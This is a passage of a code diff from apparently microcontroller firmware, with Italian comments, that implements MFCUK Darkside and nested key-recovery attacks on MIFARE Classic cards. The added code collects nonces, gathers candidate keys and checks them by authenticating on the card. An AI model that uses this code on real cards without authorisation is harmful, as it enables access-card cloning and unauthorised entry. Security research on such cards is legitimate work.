-        for(int i = 0; i < 6; i++) {
-            key[i] = (found_key >> (40-i*8)) & 0xFF;
-            Serial.print("[DEBUG] Key[");
-            Serial.print(i);
-            Serial.print("] = 0x");
-            Serial.println(key[i], HEX);
-        }
-        return true;
+    mfcuk_pipeline_init(&pipe, mfcuk_collect_produce, mfcuk_collect_consume, mfcuk_collect_idle, ctx,
+                        mode == ATTACK_MODE_DARKSIDE ? DARKSIDE_VERIFY_LIMIT : MFCUK_NESTED_VERIFY_LIMIT);
+    mfcuk_pipeline_run(&pipe);
+    nonce_acq_report(acq, pipe.stats.elapsed_ms);
+    
+    if (mode == ATTACK_MODE_DARKSIDE) {
+        found = ctx->ds.keys;
+        count = ctx->ds.count;
+        Serial.printf("[MFCUK] Darkside: %u round usati, %u scartati (%u intersezioni vuote), %u troncati, "
+                      "%u candidati\n", (unsigned)ctx->ds.rounds, (unsigned)ctx->ds.discarded,
+                      (unsigned)ctx->ds.resets, (unsigned)ctx->ds.truncated, (unsigned)count);
+    } else {
+        found = ctx->keys;
+        count = ctx->num_keys;
+        Serial.printf("[MFCUK] Nested: %u sonde, %u fuori finestra, %u candidati, %u chiavi oltre il limite\n",
+                      ctx->num_probes, (unsigned)ctx->discarded, (unsigned)count, (unsigned)ctx->dropped);
     }
     
-    Serial.println("[DEBUG] Chiave non trovata");
-    return false;
+    // Senza convergenza si verificano comunque i primi candidati, se non sono troppi
+    if (pipe.stats.cancelled || count > max_keys) {
+        count = 0;
+    } else {
+        memcpy(keys, found, count * sizeof(uint64_t));
+    }
+    if (mode == ATTACK_MODE_DARKSIDE) darkside_solver_free(&ctx->ds);
+    
+    return count;
+}
+
+// Verifica dei candidati sulla carta
+typedef struct {
+    NonceAcq* acq;
+    uint8_t block;
+    uint8_t key_type;
+    uint32_t misses;            // Autenticazioni fallite di fila per carta persa
+} MfcukVerifyCtx;
+
+/**
+ * Autenticazione sul trailer del bersaglio con la chiave candidata
+ */
+static int mfcuk_verify_on_card(void* ctx, uint64_t key) {
+    MfcukVerifyCtx* v = (MfcukVerifyCtx*)ctx;
+    Crypto1State s;
+    int r;
+    
+    if (digitalRead(buttonPin_RST) == LOW) return -1;
+    
+    while ((r = nonce_auth(v->acq, key, v->block, v->key_type, &s, NULL)) < 0) {
+        if (++v->misses >= MFCUK_COLLECT_MAX_MISSES) return -1;
+    }
+    v->misses = 0;
+    return r;
+}
+
+/**
+ * Prova le chiavi candidate sulla carta finché una autentica il bersaglio
+ */
+bool mfcuk_verify_candidates(MfcukConfig* config, NonceAcq* acq, const uint64_t* keys, uint32_t num_keys,
+                             uint8_t* key) {
+    MfcukVerifyCtx ctx;
+    KeyVerifyStage verify;
+    
+    ctx.acq = acq;
+    ctx.block = get_block_number_by_sector(config->target_sector, 3);
+    ctx.key_type = config->target_key_type;
+    ctx.misses = 0;
+    
+    mfcuk_update_progress(90, "Verifica chiavi...");
+    keygen_verify_init(&verify, mfcuk_verify_on_card, &ctx, NULL);
+    keygen_from_keys(keys, num_keys, &verify.base);
+    
+    Serial.printf("[MFCUK] Verifica sulla carta: %u candidati su %u provati, %s\n", (unsigned)verify.base.in,
+                  (unsigned)num_keys, verify.found ? "chiave trovata" : (verify.cancelled ? "interrotta" : "nessuna chiave"));
+    if (!verify.found) return false;
+    
+    for (uint8_t i = 0; i < MIFARE_KEY_SIZE; i++) key[i] = verify.key >> (40 - 8 * i);
+    return true;
 }
 
 /**
@@ -354,7 +658,7 @@ void initMfcukConfig(MfcukConfig* config) {
     
     // Imposta solo i valori non già impostati
     if (config->mode == 0) {
-        config->mode = ATTACK_MODE_DARKSIDE;  // Valore predefinito: darkside
+        config->mode = ATTACK_MODE_AUTO;  // Valore predefinito: scelta dal riconoscimento della carta
     }
     
     if (config->target_sector == 0) {